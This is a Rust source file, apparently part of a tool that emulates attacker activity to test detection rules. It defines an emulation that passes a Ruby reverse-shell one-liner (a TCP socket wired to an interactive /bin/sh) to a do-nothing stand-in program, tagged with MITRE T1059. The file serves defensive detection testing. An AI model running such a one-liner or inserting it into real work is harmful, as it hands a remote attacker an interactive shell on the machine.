//! Ruby's one-liner, given to a program that does nothing.

use crate::{
    Emulation,
    stage::{Failure, Stage},
};

pub(crate) const EMULATION: Emulation = Emulation {
    id: "ruby-shell",
    title: "Ruby told to tie a shell to the network",
    technique: "T1059",
    technique_v18: None,
    needs: &[],
    rules: &["Ruby handing out a shell"],
    act,
};

fn act(stage: &Stage) -> Result<(), Failure> {
    stage.pretend(
        "ruby",
        &[
            "-rsocket",
            "-e",
            "f=TCPSocket.open(\"127.0.0.1\",9).to_i;exec sprintf(\"/bin/sh -i <&%d >&%d 2>&%d\",f,f,f)",
        ],
    )
}
